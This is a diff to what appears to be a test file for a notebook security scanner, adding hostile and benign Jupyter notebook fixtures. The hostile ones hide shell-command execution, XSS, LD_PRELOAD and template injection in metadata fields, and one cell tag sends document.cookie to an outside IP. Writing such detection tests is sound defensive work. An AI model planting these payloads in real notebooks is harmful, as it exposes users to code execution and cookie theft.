@@ -78,8 +78,46 @@ _HOSTILE = {
     "writes_cron": notebook(_code("%%writefile /etc/cron.d/x\n* * * * * root echo stannary")),
     "writes_module": notebook(_code(f"%%writefile utils.py\nimport os\nos.system('{_RUN}')")),
     "kernel_command": notebook(_code("1"), kernelspec={"name": "x", "display_name": "x", "argv": ["sh", "-c", _RUN]}),
+    "inspector_refresh": notebook(
+        _code("1"), varInspector={"kernels_config": {"python": {"library": "var_list.py", "varRefreshCmd": f"import os; os.system({_RUN!r})"}}}
+    ),
+    "inspector_short": notebook(
+        _code("1"), varInspector={"kernels_config": {"python": {"varRefreshCmd": "__import__('os').system('echo stannary')"}}}
+    ),
+    "prettifier_library": notebook(_code("1"), code_prettify={"kernels_config_map_json": {"python": {"library": ["import os\n", f"os.system({_RUN!r})"]}}}),
+    "title_script": notebook(_code("1"), title="<script>alert(1)</script>"),
+    "rise_overlay": notebook(_code("1"), rise={"overlay": f"<img src=x onerror='{_KERNEL}'>"}),
+    "lexer_script": notebook(_code("1"), language_info={"name": "python", "pygments_lexer": f"x'><script>{_KERNEL}</script>"}),
+    "exporter": notebook(_code("1"), language_info={"name": "python", "nbconvert_exporter": "os.system"}),
+    "cell_field": notebook({**_code("1"), "metadata": {"on_open": "import subprocess; subprocess.run(['sh', '-c', 'echo stannary'])"}}),
+    "cell_tags": notebook({**_text("x"), "metadata": {"tags": ["x' onload='fetch(`http://203.0.113.9/`+document.cookie)"]}}),
+    "parameters": notebook(_code("1"), papermill={"parameters": {"start": f"bash -c '{_RUN}'"}}),
+    "kernel_environment": notebook(_code("1"), kernelspec={"name": "x", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
+    "markdown_braces": notebook(_text("Result: {{ __import__('os').system('echo stannary') }}")),
+    "output_picture": notebook(_code("1", image__png=f'x" onerror="{_KERNEL.replace(chr(34), "`")}')),
+    "output_load": notebook(_code("1", **{"application__vnd.holoviews_load.v0+json": _KERNEL})),
 }  # fmt: skip
 _BENIGN = {
+    "inspector_plain": notebook(
+        _code("1"),
+        varInspector={
+            "cols": {"lenName": 16}, "window_display": False, "types_to_exclude": ["module", "function", "builtin_function_or_method"],
+            "kernels_config": {
+                "python": {"delete_cmd_postfix": "", "delete_cmd_prefix": "del ", "library": "var_list.py", "varRefreshCmd": "print(var_dic_list())"},
+                "r": {"delete_cmd_postfix": ") ", "delete_cmd_prefix": "rm(", "library": "var_list.r", "varRefreshCmd": "cat(var_dic_list()) "},
+            },
+        },
+        code_prettify={"kernels_config_map_json": {"python": {"library": "import json\ndef pretty(x):\n    return json.dumps(x)\n"}}},
+    ),
+    "fields_plain": notebook(
+        {**_code("1"), "metadata": {"tags": ["parameters"], "papermill": {"duration": 0.1, "status": "completed"}, "slideshow": {"slide_type": "slide"}}},
+        _text("A template: {{ cookiecutter.name }}, {{ df.shape[0] }} rows and {{ open_issues }}"),
+        papermill={"input_path": "/tmp/in.ipynb", "output_path": "s3://bucket/out.ipynb", "parameters": {"url": "https://example.org/data.csv", "sql": "select * from x"}},
+        language_info={"name": "python", "nbconvert_exporter": "python", "pygments_lexer": "ipython3", "file_extension": ".py"},
+        rise={"overlay": "<div class='logo'><img src='logo.png'></div>", "theme": "sky"}, title="How to import data from a table (part 2)",
+        colab={"name": "demo.ipynb", "provenance": [{"file_id": "https://github.com/x/y/blob/main/demo.ipynb"}]}, voila={"template": "gridstack"},
+    ),
+
     "pictures": notebook(_text("# Demo\n<img src='x.png' width=300> <a href='https://colab.research.google.com/x'>Colab</a>")),
     "bokeh": notebook(
         _code(
